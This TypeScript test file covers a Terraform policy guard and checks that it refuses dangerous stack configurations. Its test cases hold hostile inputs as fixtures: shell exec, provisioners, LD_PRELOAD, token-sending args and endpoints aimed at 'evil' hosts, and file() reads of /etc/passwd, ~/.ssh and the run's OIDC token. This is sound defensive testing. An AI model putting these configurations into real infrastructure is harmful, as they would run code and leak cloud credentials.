import { describe, expect, it } from "vitest";
import { problemsOf } from "../../atlantis/rules.ts";
import { goodStack, policy, stack } from "./good-stack.ts";

// biome-ignore lint/suspicious/noExplicitAny: made to be broken in every way
type Break = (json: any) => void;

const problems = (change: Break): string[] => {
  const json = goodStack();
  change(json);
  return problemsOf(json, stack).map(({ path, message }) => `${path}: ${message}`);
};

const state = (json: ReturnType<typeof goodStack>) => json.data.terraform_remote_state["prod-aws-use1-cluster"];
const helmOf = (json: ReturnType<typeof goodStack>) => json.provider.helm[0].kubernetes;
const published = "data.terraform_remote_state.prod-aws-use1-cluster.outputs.cluster__exec_args";
const execOf = (json: ReturnType<typeof goodStack>) => json.provider.kubernetes[0].exec[0];

const cases: [name: string, change: Break, expected: RegExp][] = [
  // what runs programs
  ["external data", (j) => (j.data.external = { X: { program: ["sh"] } }), /^data\.external\.X: is not allowed: it would run a program/],
  ["external data in arrays", (j) => (j.data = [{ external: [{ X: [{}] }] }]), /^data\.external\.X: is not allowed: it would run/],
  ["external, ephemeral", (j) => (j.ephemeral = { external: { X: {} } }), /^ephemeral\.external\.X: is not allowed: it would run/],
  [
    "local-exec",
    (j) => (j.resource.aws_vpc.Vpc.provisioner = { "local-exec": { command: "id" } }),
    /^resource\.aws_vpc\.Vpc\.provisioner: .*local-exec/,
  ],
  ["remote-exec in a list", (j) => (j.resource.aws_vpc.Vpc.provisioner = [{ "remote-exec": {} }]), /Vpc\.provisioner: .*remote-exec/],
  ["file provisioner", (j) => (j.resource.terraform_data.Marker.provisioner = [{ file: {} }]), /Marker\.provisioner: /],
  [
    "provisioner, resources as an array",
    (j) => (j.resource = [{ terraform_data: [{ X: [{ provisioner: {} }] }] }]),
    /provisioner: .*would run a program/,
  ],
  [
    "provisioner in a dynamic block",
    (j) => (j.resource.aws_vpc.Vpc.dynamic = { x: { content: { provisioner: {} } } }),
    /content\.provisioner: /,
  ],
  ["provisioner under a comment", (j) => (j.resource["//"] = { X: { provisioner: {} } }), /resource\.\/\/\.X\.provisioner: /],
  ["provisioner of a removed block", (j) => (j.removed = [{ from: "aws_vpc.X", provisioner: {} }]), /^removed\.provisioner: /],
  ["connection", (j) => (j.resource.aws_vpc.Vpc.connection = { host: "x" }), /Vpc\.connection: is not allowed/],
  ["postrender", (j) => (j.resource.helm_release.Mesh.postrender = { binary_path: "sh" }), /Mesh\.postrender: is not allowed/],
  ["exec of a shell", (j) => (execOf(j).command = "sh"), /exec\.command: is "sh"; allowed are aws, gke-gcloud-auth-plugin, kubelogin/],
  ["exec by path", (j) => (execOf(j).command = "./assets/aws"), /exec\.command: is "\.\/assets\/aws"/],
  ["exec by expression", (j) => (execOf(j).command = '${"s"}h'), /exec\.command: is /],
  ["exec of a property of all objects", (j) => (execOf(j).command = "constructor"), /exec\.command: is "constructor"/],
  ["exec with other arguments", (j) => (execOf(j).args = ["s3", "cp"]), /exec\.args: .* must begin with \["eks","get-token"\]/],
  ["exec with computed arguments", (j) => (execOf(j).args = '${["s3"]}'), /exec\.args: /],
  ["exec without arguments", (j) => delete execOf(j).args, /exec\.args: is nothing; it must begin with/],
  ["published command, own arguments", (j) => (j.provider.helm[0].kubernetes.exec.args = ["s3"]), /exec\.args: .*producer's output/],
  ["exec with an environment", (j) => (execOf(j).env = { LD_PRELOAD: "assets/x.so" }), /exec\.env: is not allowed/],
  [
    "exec in a dynamic block",
    (j) => (j.provider.kubernetes[0].dynamic = { exec: { content: { command: "sh" } } }),
    /dynamic\.exec\.command: is nothing/,
  ],
  ["exec as an expression", (j) => (helmOf(j).exec = '${{command = "sh"}}'), /kubernetes\.exec: is .* it must be written out/],
  ["exec in a list of lists", (j) => (helmOf(j).exec = [[{ command: "sh" }]]), /exec\.command: is "sh"; allowed are/],
  ["exec under a computed name", (j) => (helmOf(j)['${"exec"}'] = { command: "sh" }), /kubernetes\.\$\{"exec"\}: is not an argument/],
  [
    "exec within a block as an expression",
    (j) => (j.provider.helm[0].kubernetes = '${{exec = {command = "sh"}}}'),
    /helm\.kubernetes: is .* it must be written out/,
  ],
  ["exec of a committed file", (j) => (helmOf(j).config_path = "assets/kubeconfig"), /kubernetes\.config_path: is not an argument/],
  [
    "exec of a default of remote state",
    (j) => (state(j).defaults = { cluster__exec_command: "sh", cluster__exec_args: ["-c"] }),
    /helm\.kubernetes\.exec\.command: is "\$\{data.*exec_command\}"; allowed are aws/,
  ],
  [
    "exec of a default, hidden in a second block of the same name",
    (j) => (j.data = [j.data, { terraform_remote_state: { "prod-aws-use1-cluster": [{ ...state(j), defaults: {} }] } }]),
    /helm\.kubernetes\.exec\.command: is "\$\{data/,
  ],
  ["exec with an unknown option", (j) => execOf(j).args.push("--endpoint-url", "https://evil"), /exec\.args: .* pairs of --cluster-name/],
  ["exec with an option as text of an expression", (j) => execOf(j).args.push('${"--endpoint-url"}', "x"), /exec\.args: /],
  ["exec with a half pair", (j) => execOf(j).args.push("--region"), /exec\.args: /],
  [
    "exec that sends the run's token elsewhere",
    (j) => (execOf(j).args = `\${concat(${published}, ["--authority-host", "https://evil"])}`),
    /exec\.args: /,
  ],
  ["exec with a condition on a published list", (j) => (execOf(j).args = `\${${published} == [] ? [] : ["s3", "cp"]}`), /exec\.args: /],
  ["exec with a second list", (j) => (execOf(j).args = `\${concat(${published}, ["--region", "x"], local.more)}`), /exec\.args: /],
  [
    "exec with a list that ends early",
    (j) => (execOf(j).args = `\${concat(${published}, ["--region", "x"]) == null ? [] : local.x != null ? local.x : ([])}`),
    /exec\.args: /,
  ],
  // what Terraform fetches
  [
    "module",
    (j) => (j.module = { X: { source: "github.com/evil/x" } }),
    /^module: is not allowed; allowed are terraform, provider, resource/,
  ],
  ["check with data in it", (j) => (j.check = { X: { data: { external: {} } } }), /^check: is not allowed/],
  ["a key of all objects", (j) => (j.constructor = {}), /^constructor: is not allowed/],
  [
    "foreign provider",
    (j) => (j.terraform.required_providers.aws.source = "evil/aws"),
    /aws\.source: is registry\.terraform\.io\/evil\/aws; allowed are/,
  ],
  [
    "foreign registry",
    (j) => (j.terraform.required_providers.aws.source = "evil.io/hashicorp/aws"),
    /aws\.source: is evil\.io\/hashicorp\/aws/,
  ],
  [
    "other provider version",
    (j) => (j.terraform.required_providers.aws.version = ">= 6.0"),
    /aws\.version: is ">= 6\.0"; it must be "6\.25\.0"/,
  ],
  ["provider without version", (j) => delete j.terraform.required_providers.aws.version, /providers\.aws: is .*exactly source and version/],
  [
    "provider as a string",
    (j) => (j.terraform.required_providers.aws = "6.25.0"),
    /providers\.aws: is "6\.25\.0"; exactly source and version/,
  ],
  ["required_providers as an array", (j) => (j.terraform.required_providers = [{}]), /required_providers: is \[\{\}\]; one object/],
  ["implied provider of a resource", (j) => (j.resource.null_resource = { X: {} }), /null_resource\.X: needs provider null, which/],
  ["implied provider of data", (j) => (j.data.http = { X: { url: "x" } }), /^data\.http\.X: needs provider http/],
  ["implied provider of an import", (j) => (j.import = { to: "null_resource.x", id: "1" }), /^import\.to: needs provider null/],
  ["implied provider of a module's import", (j) => (j.import[0].to = "module.x.null_x.y"), /^import\.to: needs provider module/],
  ["implied provider by argument of an import", (j) => (j.import[0].provider = "null.x"), /^import\.provider: needs provider null/],
  ["implied provider by argument", (j) => (j.resource.aws_vpc.Vpc.provider = "evil.x"), /aws_vpc\.Vpc: needs provider evil/],
  ["implied provider by configuration", (j) => (j.provider.local = {}), /^provider\.local: needs provider local/],
  // where state is
  [
    "other Terraform",
    (j) => (j.terraform.required_version = ">= 1.0"),
    /^terraform\.required_version: is ">= 1\.0"; it must be "1\.11\.4"/,
  ],
  ["backend", (j) => (j.terraform.backend = { local: {} }), /^terraform\.backend: is not allowed; only/],
  ["no cloud block", (j) => delete j.terraform.cloud, /^terraform\.cloud: is nothing; it must be/],
  [
    "other workspace",
    (j) => (j.terraform.cloud.workspaces.name = "acme-prod-aws-account"),
    /^terraform\.cloud: .*it must be .*acme-prod-aws-use1-platform/,
  ],
  ["other project", (j) => (j.terraform.cloud.workspaces.project = "acme-dev"), /^terraform\.cloud: /],
  ["workspaces by tags", (j) => (j.terraform.cloud.workspaces.tags = ["x"]), /^terraform\.cloud: /],
  ["other host", (j) => (j.terraform.cloud.hostname = "evil.io"), /^terraform\.cloud: /],
  ["token in the cloud block", (j) => (j.terraform.cloud.token = "x"), /^terraform\.cloud: /],
  ["terraform blocks as an array", (j) => (j.terraform = [j.terraform]), /^terraform: is .*one object is needed/],
  ["state of a local file", (j) => (state(j).backend = "local"), /cluster\.backend: is "local"; it must be "remote"/],
  ["state of another organization", (j) => (state(j).config.organization = "evil"), /cluster\.config: is .*it must be .*"acme"/],
  [
    "state of a foreign workspace",
    (j) => (state(j).config.workspaces.name = "evil-x"),
    /workspaces\.name: is "evil-x"; it must be a workspace acme-/,
  ],
  ["state of a computed workspace", (j) => (state(j).config.workspaces.name = "acme-${var.x}"), /workspaces\.name: is /],
  ["state with a token", (j) => (state(j).config.token = "x"), /cluster\.config: is /],
  ["state with a workspace", (j) => (state(j).workspace = "x"), /cluster\.workspace: is not allowed/],
  // where credentials go
  [
    "unused provider argument",
    (j) => (j.provider.aws[0].endpoints = [{ sts: "https://evil" }]),
    /aws\.endpoints: is not an argument that stacks use; allowed are default_tags, region/,
  ],
  [
    "address of a provider",
    (j) => (j.provider.tfe[0].hostname = "evil.io"),
    /tfe\.hostname: is "evil\.io", where credentials would be sent; allowed are app\.terraform\.io/,
  ],
  ["address of a cluster", (j) => (j.provider.helm[0].kubernetes.host = "https://evil"), /kubernetes\.host: is "https:\/\/evil", where/],
  ["address with more behind it", (j) => (j.provider.kubernetes[0].host += "@evil"), /kubernetes\.host: is /],
  [
    "address that defaults of remote state give",
    (j) => (state(j).defaults = { cluster__endpoint: "https://evil" }),
    /^provider\.kubernetes\.host: is .*where credentials would be sent/,
  ],
  ["address under a computed name", (j) => (helmOf(j)['${"host"}'] = "https://evil"), /helm\.kubernetes\.\$\{"host"\}: is not an argument/],
  [
    "file of credentials",
    (j) => (j.provider.azurerm[0].oidc_token_file_path = "assets/token"),
    /oidc_token_file_path: is "assets\/token"; only files of var\.tfc_/,
  ],
  ["token as data", (j) => (j.data.aws_eks_cluster_auth = { X: {} }), /^data\.aws_eks_cluster_auth\.X: .*a plan could show the token/],
  [
    "token as data of another cloud",
    (j) => (j.data = [j.data, { aws_ecr_authorization_token: [{ X: {} }] }]),
    /^data\.aws_ecr_authorization_token\.X: is not allowed/,
  ],
  // what files are read
  ["file()", (j) => (j.output.X = { value: '${file("/etc/passwd")}' }), /^output\.X\.value: calls file\("\/etc\/passwd"/],
  ["file() with a comment", (j) => (j.locals = { x: '${file/* */ ("/x")}' }), /^locals\.x: calls file\(/],
  ["file() by name space", (j) => (j.locals = { x: '${core::file("/x")}' }), /calls file\(/],
  ["file() in a directive", (j) => (j.locals = { x: '%{ if fileexists("/x") }a%{ endif }' }), /calls fileexists\(/],
  ["file() in a key", (j) => (j.locals = { x: { '${file("/x")}': 1 } }), /calls file\(/],
  ["file() in a list", (j) => (j.locals = { x: [["${filebase64(local.x)}"]] }), /locals\.x\[0\]: calls filebase64\(/],
  ["file() over a step up", (j) => (j.locals = { x: '${file("assets/../../x")}' }), /calls file\("assets\/\.\./],
  ["file() of an expression", (j) => (j.locals = { x: '${file("assets/${var.x}")}' }), /calls file\(/],
  ["file() that goes on", (j) => (j.locals = { x: '${file(var.tfc_x.y == "" ? "/x" : "/y")}' }), /calls file\(/],
  [
    "file() of the run's token",
    (j) => (j.output.X = { value: "${nonsensitive(file(var.tfc_azure_dynamic_credentials.default.oidc_token_file_path))}" }),
    /^output\.X\.value: calls file\(var\.tfc_azure/,
  ],
  ["file() of any variable", (j) => (j.locals = { x: "${file(var.tfc_evil.client_id_file_path)}" }), /calls file\(var\.tfc_evil/],
  ["fileset()", (j) => (j.locals = { x: '${fileset("/", "*")}' }), /calls fileset\(/],
  ["pathexpand()", (j) => (j.locals = { x: '${pathexpand("~/.ssh")}' }), /calls pathexpand\(/],
  ["templatefile()", (j) => (j.locals = { x: '${templatefile("assets/x", {})}' }), /calls templatefile\(\), whose template could read any/],
  ["templatestring()", (j) => (j.locals = { x: "${templatestring(local.y, {})}" }), /calls templatestring\(\), whose/],
  [
    "credentials variable with a default",
    (j) => (j.variable.tfc_azure_dynamic_credentials.default = {}),
    /credentials\.default: is not allowed/,
  ],
  // what has another form than expected
  ["a resource that is text", (j) => (j.resource.aws_vpc.Vpc = "${x}"), /^resource\.aws_vpc\.Vpc: is not an object or a list of objects/],
];

describe("rules of the guard", () => {
  it("accept what stacks use", () => expect(problems(() => {})).toEqual([]));

  it.each(cases)("refuse: %s", (_, change, expected) => {
    const found = problems(change);
    expect(found.filter((problem) => expected.test(problem))).toHaveLength(1);
  });

  it("report all problems at once", () => {
    const found = problems((json) => {
      json.module = {};
      json.terraform.required_version = "1.0";
      json.resource.aws_vpc.Vpc.provisioner = {};
    });
    expect(found.map((problem) => problem.split(":")[0])).toEqual([
      "module",
      "terraform.required_version",
      "resource.aws_vpc.Vpc.provisioner",
    ]);
  });

  it("know providers by their full source, however it is written", () => {
    expect(problems((json) => (json.terraform.required_providers.aws.source = "Registry.terraform.io/HashiCorp/aws"))).toEqual([]);
    expect(Object.keys(policy.providers)).toHaveLength(5);
  });
});
